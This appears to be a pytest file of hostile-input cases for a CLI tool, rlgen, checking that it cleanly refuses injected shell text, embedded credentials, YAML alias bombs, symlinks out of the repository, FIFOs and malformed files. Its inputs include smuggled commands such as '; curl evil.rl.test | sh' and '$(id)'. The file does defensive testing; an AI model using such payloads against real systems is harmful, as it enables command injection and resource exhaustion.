"""Hostile input, one case per row: answers typed at the door, hand edits of the files rlgen
reads back, paths and links out of the repository, data commands pointed at their own source.

Every case runs the real command line and asserts what a user would notice: the exit code
(2, never 70 and never 0 for a refused input), one line on stderr, nothing written or committed
(files, refs, worktrees), nothing left in the temporary folder, and no secret of the input in
the output or a crash file. conftest.py counts the outcomes into the corpus figures."""
from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import pytest
from support.hostile import leftovers, record
from support.repos import GIT_URL, INDEX, INSTALL, REGISTRY, commit_all, git

#: Secrets planted in the inputs: none may come out anywhere.
TOKEN = "ghp_Hostile0Corpus1Token2Value3abcdefgh"
PASSWORD = "Hunter2HostilePassword9"
SECRETS = (TOKEN, PASSWORD)
RUN = "runs/baseline/run.yaml"
REQUIRED = {"rlgen.registry": REGISTRY, "rlgen.git_url": GIT_URL, "rlgen.install": INSTALL, "rlgen.git_host": "github"}


@dataclass
class Case:
    name: str
    args: tuple[str, ...]
    #: Changes the copy of the generated repository before the command (committed).
    prepare: Callable[[Path], None] | None = None
    code: int = 2
    #: Text the one error line must hold.
    says: str = ""
    #: Runs in the repository (a copy of the generated one) or an empty folder.
    in_repo: bool = True
    #: Files (relative to the case's folder) that must keep their bytes: data that must not be lost.
    keep: tuple[str, ...] = ()
    env: dict[str, str] = field(default_factory=dict)


def new(*sets: str, **kwargs) -> Case:
    """``rlgen new`` with the required answers, each of ``sets`` (PLUGIN.OPTION=VALUE) replacing its own."""
    given = dict(REQUIRED)
    plugins = kwargs.pop("plugins", ())
    for item in sets:
        key, _, value = item.partition("=")
        given[key] = value
    args = ["new", "repo", *[a for p in plugins for a in ("--plugin", p)],
            *[a for k, v in given.items() for a in ("--set", f"{k}={v}")], "--no-input"]
    return Case(kwargs.pop("name"), tuple(args), in_repo=False, **kwargs)


def edit(path: str, old: str, new_text: str) -> Callable[[Path], None]:
    def change(repo: Path) -> None:
        target = repo / path
        text = target.read_text()
        assert old in text, (path, old)
        target.write_text(text.replace(old, new_text, 1))
    return change


def write(path: str, data: bytes | str) -> Callable[[Path], None]:
    def change(repo: Path) -> None:
        target = repo / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data if isinstance(data, bytes) else data.encode())
    return change


def run_key(key_line: str) -> Callable[[Path], None]:
    """Append a top-level section to the baseline run's run.yaml."""
    return lambda repo: (repo / RUN).write_text((repo / RUN).read_text() + key_line)


def both(*changes: Callable[[Path], None]) -> Callable[[Path], None]:
    return lambda repo: [c(repo) for c in changes] and None


ALIAS_BOMB = "".join([f"a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n"]
                     + [f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, "
                        f"*a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}]\n" for i in range(1, 9)])
DEEP = "deep: " + "[" * 10000 + "]" * 10000 + "\n"


def _detach(repo: Path) -> None:
    git(repo, "switch", "-q", "--detach", "HEAD")


def _stale_lock(repo: Path) -> None:
    (repo / ".git" / "index.lock").write_text("")


def _refusing_hook(name: str) -> Callable[[Path], None]:
    def install(repo: Path) -> None:
        hook = repo / ".git" / "hooks" / name
        hook.write_text("#!/bin/sh\necho 'policy: no commits today' >&2\nexit 1\n")
        hook.chmod(0o755)
    return install


def _signing_key_missing(repo: Path) -> None:
    for option, value in (("gpg.format", "ssh"), ("user.signingkey", str(repo.parent / "gone.pub")),
                          ("commit.gpgsign", "true")):
        git(repo, "config", option, value)


def _journal(text: str) -> Callable[[Path], None]:
    """The journal a killed rlgen leaves (tests/hostile/test_sigkill.py kills real ones)."""
    return lambda repo: (repo / ".git" / "rlgen-change.json").write_text(text)


def _link_run_yaml(repo: Path) -> None:
    outside = repo.parent / "outside.yaml"
    outside.write_text((repo / RUN).read_text())
    (repo / RUN).unlink()
    (repo / RUN).symlink_to(outside)


def _outside_resource(repo: Path) -> None:
    outside = repo.parent / "elsewhere"
    outside.mkdir()
    (outside / "kustomization.yaml").write_text("resources: []\n")
    path = repo / "runs" / "baseline" / "kustomization.yaml"
    path.write_text(path.read_text().replace("resources:\n", "resources:\n  - ../../../elsewhere\n", 1))


def _dataset(folder: str) -> Callable[[Path], None]:
    def make(root: Path) -> None:
        src = root / folder
        src.mkdir(parents=True)
        (src / "train.jsonl").write_text('{"question": "1+1?", "answer": "#### 2"}\n')
        (src / "test.jsonl").write_text('{"question": "2+2?", "answer": "#### 4"}\n')
    return make


def _corrupt_parquet(root: Path) -> None:
    src = root / "src"
    src.mkdir()
    (src / "train.parquet").write_bytes(b"PAR1 this is not a parquet file PAR1")
    (src / "test.parquet").write_bytes(b"")


def _upload_folder(root: Path) -> None:
    src = root / "up"
    src.mkdir()
    (src / "train.parquet").write_bytes(b"data")


def _upload_folder_with_link(root: Path) -> None:
    _upload_folder(root)
    (root / "secret.txt").write_text(PASSWORD)
    (root / "up" / "leak.txt").symlink_to(root / "secret.txt")


def _link(path: str, target: str) -> Callable[[Path], None]:
    """A committed symbolic link at ``path`` to ``target`` (absolute, or beside the repository)."""
    def make(repo: Path) -> None:
        link = repo / path
        link.parent.mkdir(parents=True, exist_ok=True)
        if link.exists() or link.is_symlink():
            link.unlink()
        if not target.startswith("/"):
            (repo.parent / target).write_text("apiVersion: v1\nkind: Namespace\nmetadata:\n  name: outside\n")
        link.symlink_to(target if target.startswith("/") else repo.parent / target)
    return make


def _named_resource(folder: str, name: str, make: Callable[[Path], None]) -> Callable[[Path], None]:
    """``make`` puts a file at ``folder/name``, which git does not keep (a FIFO, a huge file:
    ignored), and the folder's kustomization names it, so kustomize would read it."""
    def prepare(repo: Path) -> None:
        make(repo / folder / name)
        with open(repo / ".git" / "info" / "exclude", "a") as exclude:
            exclude.write(f"/{folder}/{name}\n")
        kustomization = repo / folder / "kustomization.yaml"
        text = kustomization.read_text()
        assert "resources:\n" in text, folder
        kustomization.write_text(text.replace("resources:\n", f"resources:\n  - {name}\n", 1))
    return prepare


def _huge(path: Path) -> None:
    # Sparse: past rlgen's limit on a file without taking the disk.
    with open(path, "wb") as f:
        f.truncate(64 * 1024 * 1024 + 1)


def _index_folder(repo: Path) -> None:
    index = repo / INDEX
    index.unlink()
    index.mkdir()
    (index / "kustomization.yaml").write_text("resources: []\n")


CASES = [
    # -- answers at the door: control characters, shell text, credentials, types and ranges
    new(f"rlgen.registry={REGISTRY}\nRUN curl x | sh", name="registry-newline", says="control character"),
    new("rlgen.registry=registry.rl.test/team;rm", name="registry-shell", says="not a registry path"),
    new("rlgen.registry=registry.rl.test/" + "a" * 230, name="registry-too-long", says="255"),
    new("rlgen.registry=[a, b]", name="registry-list-text", says="not a registry path"),
    new(f"rlgen.git_url={GIT_URL}; curl evil.rl.test | sh", name="git-url-shell", says="not a Git URL"),
    new(f"rlgen.git_url={GIT_URL}\n", name="git-url-newline", says="control character"),
    new(f"rlgen.git_url=https://{TOKEN}@git.rl.test/p/r.git", name="git-url-token", says="credentials"),
    new(f"rlgen.git_url=https://me:{PASSWORD}@git.rl.test/p/r.git", name="git-url-password", says="credentials"),
    new(f"rlgen.git_url=ssh://git:{PASSWORD}@git.rl.test/p/r.git", name="git-url-ssh-password", says="credentials"),
    new("rlgen.git_url=file:///etc", name="git-url-file", says="not a Git URL"),
    new(f"rlgen.install=rlgen==0.1.0 --index-url https://me:{PASSWORD}@pypi.rl.test/simple",
        name="install-index-password", says="credentials"),
    new(f"rlgen.install=rlgen @ git+https://{TOKEN}@git.rl.test/rlgen.git@v0.1.0",
        name="install-git-token", says="credentials"),
    new("rlgen.install=rlgen==0.1.0\nRUN id", name="install-newline", says="control character"),
    new(f"rlgen.dataset_source=https://x:{PASSWORD}@hub.rl.test/d", name="dataset-source-password",
        says="credentials"),
    new("rlgen.dataset_source=openai/gsm8k\nx", name="dataset-source-newline", says="control character"),
    new("rlgen.model=Qwen/Qwen2.5-0.5B\u202e", name="model-bidi", says="control character"),
    new("rlgen.model=Qwen/Qwen2.5-0.5B$(id)", name="model-shell", says="not a hub id"),
    new("rlgen.model_revision=main\nFROM evil", name="revision-newline", says="control character"),
    new(f"mlflow.tracking_uri=https://u:{PASSWORD}@mlflow.rl.test", plugins=("mlflow",),
        name="mlflow-uri-password", says="credentials"),
    new(f"mlflow.tracking_uri=https://mlflow.rl.test/?token={TOKEN}", plugins=("mlflow",),
        name="mlflow-uri-token-query", says="secret query parameter"),
    new("mlflow.tracking_uri=https://mlflow.rl.test\n", plugins=("mlflow",),
        name="mlflow-uri-newline", says="control character"),
    new(f"ak-storage.endpoint=https://id:{PASSWORD}@oss.rl.test", name="endpoint-password", says="credentials"),
    new("ak-storage.bucket=Bucket_With_Caps", name="bucket-bad", says="OSS bucket"),
    new("ak-storage.region=here; id", name="region-bad", says="region id"),
    new("rlgen.gpus_per_node=inf", name="gpus-inf", says="not a valid int"),
    new("rlgen.gpus_per_node=1e400", name="gpus-1e400", says="not a valid int"),
    new("rlgen.gpus_per_node=true", name="gpus-bool", says="not a valid int"),
    new("rlgen.rdma_host_network=maybe", name="bool-text", says="not true or false"),
    new("vllm.gpu_memory_utilization=nan", name="memory-nan", says="finite"),
    new("vllm.gpu_memory_utilization=7", name="memory-7", says="(0, 1]"),
    new("rlgen.run=" + "r" * 300, name="run-name-300", says="RayJob name over"),

    # -- rlgen.yaml edited by hand: types, tags, bombs
    Case("answers-gpus-true", ("validate",), edit("rlgen.yaml", "  rlgen:\n", "  rlgen:\n    gpus_per_node: true\n"),
         says="not an integer"),
    Case("answers-gpus-float", ("validate",), edit("rlgen.yaml", "  rlgen:\n", "  rlgen:\n    gpus_per_node: 4.9\n"),
         says="not an integer"),
    Case("answers-registry-list", ("validate",),
         edit("rlgen.yaml", f"    registry: {REGISTRY}\n", "    registry: [a, b]\n"), says="not a string"),
    Case("answers-integer-key", ("validate",), edit("rlgen.yaml", "  rlgen:\n", "  rlgen:\n    1: x\n"),
         says="no option"),
    Case("answers-binary-tag", ("validate",),
         edit("rlgen.yaml", f"    registry: {REGISTRY}\n", "    registry: !!binary aGVsbG8=\n"), says="tag"),
    Case("answers-newline-registry", ("validate",),
         edit("rlgen.yaml", f"    registry: {REGISTRY}\n", f'    registry: "{REGISTRY}\\nRUN id"\n'),
         says="control character"),
    Case("answers-token-url", ("validate",),
         edit("rlgen.yaml", f"    git_url: {GIT_URL}\n", f"    git_url: https://{TOKEN}@git.rl.test/p/r.git\n"),
         says="credentials"),
    Case("answers-alias-bomb", ("validate",), lambda repo: (repo / "rlgen.yaml").write_text(
        (repo / "rlgen.yaml").read_text() + "bomb:\n" + "".join("  " + line + "\n" for line in ALIAS_BOMB.splitlines())),
         says="aliases expand"),

    # -- run.yaml edited by hand: numbers out of range, tags, timestamps, bombs, size
    Case("run-lr-nan", ("run", "list"), run_key("actor_rollout_ref:\n  actor:\n    optim:\n      lr: .nan\n"),
         says="finite"),
    Case("run-lr-negative", ("validate",), run_key("actor_rollout_ref:\n  actor:\n    optim:\n      lr: -1.0\n"),
         says="learning rate"),
    Case("run-epochs-zero", ("run", "list"), edit(RUN, "trainer:\n", "trainer:\n  total_epochs: 0\n"),
         says="at least 1"),
    Case("run-epochs-inf", ("run", "list"), edit(RUN, "trainer:\n", "trainer:\n  total_epochs: .inf\n"),
         says="an integer"),
    Case("run-prompt-length-negative", ("run", "list"), run_key("data:\n  max_prompt_length: -1\n"),
         says="at least 1"),
    Case("run-memory-7", ("run", "list"),
         run_key("actor_rollout_ref:\n  rollout:\n    gpu_memory_utilization: 7\n"), says="(0, 1]"),
    Case("run-timestamp", ("run", "list"), run_key("note: 2024-01-01\n"), says="date"),
    Case("run-ref-tag", ("run", "list"), run_key("note: !Ref something\n"), says="tag"),
    Case("run-set-tag", ("run", "list"), run_key("note: !!set {a, b}\n"), says="tag"),
    Case("run-deep-nesting", ("run", "list"), run_key(DEEP), says="nested"),
    Case("run-alias-bomb", ("run", "list"), run_key(ALIAS_BOMB), says="aliases expand"),
    Case("run-alias-of-itself-diff", ("diff", "--base", "HEAD~1"), run_key("loop: &a [*a]\n"),
         says="inside the collection it names"),
    Case("run-alias-of-itself", ("validate",), run_key("loop: &a {self: *a}\n"), says="inside the collection it names"),
    Case("run-huge", ("run", "list"), run_key("pad: '" + "x" * (9 * 1024 * 1024) + "'\n"), says="characters"),
    Case("run-integer-key", ("run", "list"), run_key("1: x\n"), says="not a string"),
    Case("run-local-dir-etc", ("run", "list"), edit(RUN, "default_local_dir:", "default_local_dir: /etc\n  old_dir:"),
         says="outside the checkpoints volume"),
    Case("run-set-through-link", ("run", "set", "baseline", "trainer.total_epochs=3"), _link_run_yaml,
         says="symbolic link", keep=("../outside.yaml",)),

    # -- the runs index and run names
    Case("index-empty-then-set", ("run", "set", "baseline", "trainer.total_epochs=3"),
         write(INDEX, ""), says="no run 'baseline'"),
    Case("folder-missing-from-index-rm", ("run", "rm", "baseline"),
         edit(INDEX, "  - ../../../runs/baseline\n", ""), says="no run 'baseline'"),
    Case("run-new-name-300", ("run", "new", "r" * 300), says="longer than"),
    Case("run-new-detached", ("run", "new", "second"), _detach, says="detached"),
    Case("run-new-stale-index-lock", ("run", "new", "second"), _stale_lock, says="index.lock"),
    Case("update-detached", ("update", "--set", "ak-storage.bucket=other-bucket"), _detach, says="detached"),
    Case("cluster-add-detached", ("cluster", "add", "second", "--env", "staging"), _detach, says="detached"),

    # -- the repository's own hooks and signing settings (tests/hostile/test_commit_hooks_signing.py)
    Case("run-new-pre-commit-refuses", ("run", "new", "second"), _refusing_hook("pre-commit"),
         says="the pre-commit hook (.git/hooks/pre-commit) refused the commit"),
    Case("run-set-commit-msg-refuses", ("run", "set", "baseline", "trainer.total_epochs=3"),
         _refusing_hook("commit-msg"), says="the commit-msg hook (.git/hooks/commit-msg) refused the commit"),
    Case("run-rm-pre-commit-refuses", ("run", "rm", "baseline"), _refusing_hook("pre-commit"), says="pre-commit hook"),
    Case("update-pre-commit-refuses", ("update", "--set", "ak-storage.bucket=other-bucket"),
         _refusing_hook("pre-commit"), says="pre-commit hook"),
    Case("cluster-add-commit-msg-refuses", ("cluster", "add", "second", "--env", "staging"),
         _refusing_hook("commit-msg"), says="commit-msg hook"),
    Case("run-new-signing-key-missing", ("run", "new", "second"), _signing_key_missing, says="git commit failed"),
    # -- what a killed rlgen leaves: a journal whose process still runs, one that is not rlgen's
    Case("run-new-journal-of-a-live-process", ("run", "new", "second"),
         _journal(json.dumps({"command": "run new", "branch": "main", "head": "0" * 40, "pid": os.getpid()})),
         says="which still runs"),
    Case("update-journal-garbage", ("update", "--set", "ak-storage.bucket=other-bucket"), _journal("{not json"),
         says="not the journal rlgen writes"),

    # -- files that are not the repository's own: links out of it, devices, FIFOs, endless or huge files
    Case("entry-link-dev-zero", ("validate",), _link("clusters/production/zero.yaml", "/dev/zero"),
         says="clusters/production/zero.yaml: a symbolic link to /dev/zero, outside the repository"),
    Case("entry-link-outside-file", ("validate",), _link("clusters/production/out.yaml", "outside.yaml"),
         says="outside the repository"),
    Case("trainer-link-dev-zero", ("run", "new", "second"), _link("base/training/trainer.yaml", "/dev/zero"),
         says="base/training/trainer.yaml"),
    Case("kustomization-link-dev-zero", ("render",), _link("runs/baseline/kustomization.yaml", "/dev/urandom"),
         says="runs/baseline/kustomization.yaml"),
    Case("resource-fifo", ("validate",), _named_resource("runs/baseline", "pipe.yaml", os.mkfifo),
         says="runs/baseline/pipe.yaml: a FIFO"),
    Case("resource-fifo-run-new", ("run", "new", "second"),
         _named_resource("base/training", "pipe.yaml", os.mkfifo), says="base/training/pipe.yaml: a FIFO"),
    Case("resource-huge", ("validate",), _named_resource("base/platform", "huge.yaml", _huge), says="huge.yaml"),

    # -- YAML a strict reader refuses, as kustomize and the sync engines do: keys twice, bytes
    #    that are not UTF-8, values JSON has not (dates, !!binary, !!set)
    Case("entry-duplicate-key", ("validate",),
         lambda repo: (repo / "clusters/production/runs.yaml").write_text(
             (repo / "clusters/production/runs.yaml").read_text() + "apiVersion: v1\n"),
         says="duplicate key"),
    Case("entry-not-utf8", ("validate",), lambda repo: (repo / "clusters/production/runs.yaml").write_bytes(
        (repo / "clusters/production/runs.yaml").read_bytes() + b"# caf\xe9\n"), says="not UTF-8"),
    Case("entry-binary-tag", ("validate",), write("clusters/production/extra.yaml",
                                                  "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: x\n"
                                                  "  namespace: default\ndata:\n  a: !!binary aGk=\n"),
         says="!!binary"),
    Case("trainer-timestamp", ("validate",), edit("base/training/trainer.yaml", "trainer:\n",
                                                  "trainer:\n  note: 2024-01-01\n"), says="date"),
    Case("trainer-set", ("validate",), edit("base/training/trainer.yaml", "trainer:\n",
                                            "trainer:\n  note: !!set {a, b}\n"), says="tag"),
    Case("kustomization-duplicate-key", ("validate",), edit("runs/baseline/kustomization.yaml", "resources:\n",
                                                           "namespace: a\nnamespace: b\nresources:\n"),
         says="duplicate"),

    # -- invalid files where a command met them before as a bug (exit 70)
    Case("entry-bad-yaml", ("validate",), edit("clusters/production/runs.yaml", "apiVersion", "a: [\napiVersion"),
         says="clusters/production/runs.yaml: line"),
    Case("entry-bad-yaml-status", ("status",), edit("clusters/production/runs.yaml", "apiVersion", "a: [\napiVersion"),
         says="clusters/production/runs.yaml: line"),
    Case("entry-bad-yaml-doctor", ("doctor",), edit("clusters/production/runs.yaml", "apiVersion", "a: [\napiVersion"),
         says="clusters/production/runs.yaml: line"),
    Case("stray-bad-yaml-status", ("status",), write("clusters/production/stray.yaml", "a: [\n"),
         says="clusters/production/stray.yaml"),
    Case("stray-bad-yaml-doctor", ("doctor",), write("clusters/production/stray.yaml", "a: [\n"),
         says="clusters/production/stray.yaml"),
    Case("kustomization-not-utf8-render", ("render",), lambda repo: (repo / "runs/baseline/kustomization.yaml")
         .write_bytes((repo / "runs/baseline/kustomization.yaml").read_bytes() + b"# \xff\n"),
         says="runs/baseline/kustomization.yaml: line"),
    Case("index-folder-render", ("render",), _index_folder, says=f"{INDEX}: a folder"),
    Case("index-folder-run-new", ("run", "new", "second"), _index_folder, says=INDEX),
    Case("index-empty-render", ("render",), write(INDEX, ""), says="runs"),
    Case("index-empty-run-new", ("run", "new", "second"), write(INDEX, ""),
         says=f"{INDEX}: empty"),

    # -- kustomize sources edited by hand
    Case("platform-bad-yaml", ("validate",), write("base/platform/kustomization.yaml", "resources: [unclosed\n"),
         says="base/platform"),
    Case("overlay-not-utf8", ("validate",), write("overlays/production/platform/kustomization.yaml", b"\xff\xfe\x80"),
         says="overlays/production"),
    Case("cluster-file-bad-yaml", ("validate",), write("clusters/production/extra.yaml", "a: [\n"),
         says="clusters/production"),
    Case("resource-outside-repo", ("validate",), _outside_resource, says="outside the repository"),
    Case("render-out-onto-file", ("render", "--out", "README.md"), says="README.md"),

    # -- data commands
    Case("prepare-out-is-source", ("data", "prepare", "--dataset", "gsm8k", "--source", "./src", "--out", "src"),
         _dataset("src"), in_repo=False, says="source", keep=("src/train.jsonl", "src/test.jsonl")),
    Case("prepare-out-inside-source",
         ("data", "prepare", "--dataset", "gsm8k", "--source", "./src", "--out", "src/out"),
         _dataset("src"), in_repo=False, says="source", keep=("src/train.jsonl",)),
    Case("prepare-source-inside-out",
         ("data", "prepare", "--dataset", "gsm8k", "--source", "./data/src", "--out", "data"),
         _dataset("data/src"), in_repo=False, says="source", keep=("data/src/train.jsonl",)),
    Case("prepare-corrupt-parquet", ("data", "prepare", "--dataset", "gsm8k", "--source", "./src", "--out", "out"),
         _corrupt_parquet, in_repo=False, says="src"),
    Case("upload-endpoint-file", ("data", "upload", "up", "oss://bucket/prefix", "--endpoint", "file:///etc",
                                  "--region", "cn-hangzhou"),
         _upload_folder, in_repo=False, says="endpoint",
         env={"OSS_ACCESS_KEY_ID": "id", "OSS_ACCESS_KEY_SECRET": PASSWORD}),
    Case("upload-endpoint-password", ("data", "upload", "up", "oss://bucket/prefix",
                                      "--endpoint", f"http://id:{PASSWORD}@127.0.0.1:9", "--region", "cn-hangzhou"),
         _upload_folder, in_repo=False, says="credentials",
         env={"OSS_ACCESS_KEY_ID": "id", "OSS_ACCESS_KEY_SECRET": PASSWORD}),
    Case("upload-link-out-of-folder", ("data", "upload", "up", "oss://bucket/prefix", "--endpoint",
                                       "http://127.0.0.1:9", "--region", "cn-hangzhou"),
         _upload_folder_with_link, in_repo=False, says="link",
         env={"OSS_ACCESS_KEY_ID": "id", "OSS_ACCESS_KEY_SECRET": PASSWORD}),
]


def _state(folder: Path) -> dict:
    """What a refused command must not change: every file's bytes (but the ignored render
    cache), and in a repository its refs, index, worktrees and status."""
    files = {p.relative_to(folder).as_posix(): p.read_bytes() if not p.is_symlink() else os.readlink(p)
             for p in sorted(folder.rglob("*"))
             if (p.is_file() or p.is_symlink()) and not {".git", ".rlgen-cache"} & set(p.relative_to(folder).parts)}
    state = {"files": files}
    if (folder / ".git").exists():
        state["refs"] = git(folder, "for-each-ref", "--format=%(refname) %(objectname)")
        state["head"] = (folder / ".git" / "HEAD").read_text()
        state["worktrees"] = git(folder, "worktree", "list", "--porcelain")
        state["index"] = git(folder, "ls-files", "--stage")
        state["leftovers"] = leftovers(folder)
    return state


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_hostile_input_is_refused_cleanly(case: Case, generate, tmp_path, record_property):
    top = tmp_path / "case"
    top.mkdir()
    where = top
    if case.in_repo:
        where = Path(shutil.copytree(generate(), top / "repo", symlinks=True))
        if case.prepare:
            case.prepare(where)
            if git(where, "status", "--porcelain").strip():
                commit_all(where, f"hostile edit: {case.name}")
    elif case.prepare:
        case.prepare(where)
    kept = {k: (where / k).read_bytes() for k in case.keep}
    before = _state(where)
    tmp = tmp_path / "tmpdir"
    tmp.mkdir()
    env = {**os.environ, "TMPDIR": str(tmp), "HF_HUB_OFFLINE": "1", "HF_DATASETS_OFFLINE": "1", **case.env}
    result = subprocess.run([sys.executable, "-m", "rlgen", *case.args], cwd=where, capture_output=True, text=True,
                            env=env, timeout=120)
    crash = [p.read_text() for p in tmp.glob("rlgen-crash-*")]
    lines = result.stderr.strip().splitlines()
    outcome = {
        "exit": result.returncode,
        "one_line": len(lines) == 1 and "Traceback" not in result.stderr,
        "data_lost": [k for k, v in kept.items() if not (where / k).exists() or (where / k).read_bytes() != v],
        "changed": _state(where) != before,
        "leftovers": sorted(p.name for p in tmp.iterdir()),
        "secrets": [s for s in SECRETS if any(s in text for text in (result.stdout, result.stderr, *crash))],
    }
    record(record_property, expected=case.code, result=result, data_lost=outcome["data_lost"],
           changed=outcome["changed"], leftovers=outcome["leftovers"], secrets=outcome["secrets"])
    assert outcome["exit"] != 70, result.stderr
    assert outcome["exit"] == case.code, result.stdout[-2000:] + result.stderr
    if case.code == 2:
        assert outcome["one_line"], result.stderr
        assert case.says in lines[0], lines[0]
    assert not outcome["secrets"], result.stdout + result.stderr
    assert not outcome["data_lost"]
    assert not outcome["changed"], "the command changed the folder or the repository"
    assert not outcome["leftovers"]
